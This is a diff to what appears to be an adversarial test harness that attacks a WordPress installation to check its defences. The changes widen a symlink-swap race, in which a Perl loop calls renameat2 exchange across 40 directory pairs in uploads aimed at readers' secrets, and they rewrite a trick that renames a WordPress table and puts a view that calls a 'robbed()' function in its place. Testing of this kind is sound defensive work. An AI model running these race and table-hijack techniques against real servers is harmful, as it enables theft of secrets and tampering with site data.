@@ -22,6 +22,7 @@ CONTENT = "/srv/wordpress/wp-content"
 HEARD = "heard.jsonl"  # in uploads: what programs noted that ran where WordPress is loaded
 SPARSE_BYTES = 1 << 28
 COUNTLESS = 5000
+RACES = 40
 LEVELS = 5000
 
 
@@ -106,9 +107,9 @@ class HostileSite:
         found: list[list[str]] = self.php(CONNECT + _QUERY, query=query)
         return found
 
-    def race(self, first: str, second: str, seconds: int = RACE_SECONDS) -> None:
-        """Exchange two paths without end, as fast as the kernel does it."""
-        self.background("perl", "-e", _EXCHANGE, first, second, str(seconds))
+    def race(self, *pairs: str) -> None:
+        """Exchange the two paths of each pair without end, as fast as the kernel does it."""
+        self.background("perl", "-e", _EXCHANGE, str(RACE_SECONDS), *pairs)
 
     def heard(self) -> list[dict[str, Any]]:
         """Return what the planted programs noted, each time that WordPress was loaded."""
@@ -140,10 +141,12 @@ echo json_encode($errors, JSON_INVALID_UTF8_SUBSTITUTE);
 _QUERY = 'echo json_encode($link->query($given["query"])->fetch_all(), JSON_INVALID_UTF8_SUBSTITUTE);'
 _EXCHANGE = """
 use Config;
-my ($first, $second, $seconds) = @ARGV;
+my ($seconds, @pairs) = @ARGV;
 my $number = $Config{archname} =~ /aarch64/ ? 276 : 316;
 for (my $end = time + $seconds; time < $end;) {
-    for (1 .. 500) { syscall($number, -100, $first, -100, $second, 2); }
+    for (my $n = 0; $n < @pairs; $n += 2) {
+        for (1 .. 15) { syscall($number, -100, $pairs[$n], -100, $pairs[$n + 1], 2); }
+    }
 }
 """
 
@@ -253,9 +256,19 @@ def a_racer_among_plugins(site: HostileSite) -> None:
 
 @_trick("J2")
 def a_racer_among_uploads(site: HostileSite) -> None:
-    """The same where media lie, towards the secrets of whoever reads them."""
-    site.must('cd "$1/uploads"; mkdir -p racer/in; echo x > racer/in/request.json; ln -sfn / racer/out', CONTENT)
-    site.race(f"{CONTENT}/uploads/racer/in", f"{CONTENT}/uploads/racer/out")
+    """The same where media lie, in many places, towards the secrets of whoever reads them."""
+    site.must(
+        """
+        cd "$1/uploads"
+        for n in $(seq "$2"); do
+            mkdir -p "racer-$n/in"; echo x > "racer-$n/in/request.json"; ln -sfn / "racer-$n/out"
+        done
+        """,
+        CONTENT,
+        str(RACES),
+    )
+    pairs = [f"{CONTENT}/uploads/racer-{n}/{side}" for n in range(1, RACES + 1) for side in ("in", "out")]
+    site.race(*pairs)
 
 
 # J3: names
@@ -362,7 +375,9 @@ def view_named_like(site: HostileSite, table: str, columns: str) -> None:
     """Put a view that robs in the place of one of WordPress's own tables."""
     site.sql(f"RENAME TABLE {table} TO {table}_real")
     site.must_sql(
-        f"CREATE OR REPLACE SQL SECURITY INVOKER VIEW {table} AS SELECT {columns} FROM {table}_real WHERE robbed() = 0"
+        # Evaluated whatever rows are asked for.
+        f"CREATE OR REPLACE SQL SECURITY INVOKER VIEW {table} AS SELECT {columns} "
+        f"FROM (SELECT robbed() AS taken) AS robbery JOIN {table}_real"
     )
 
 
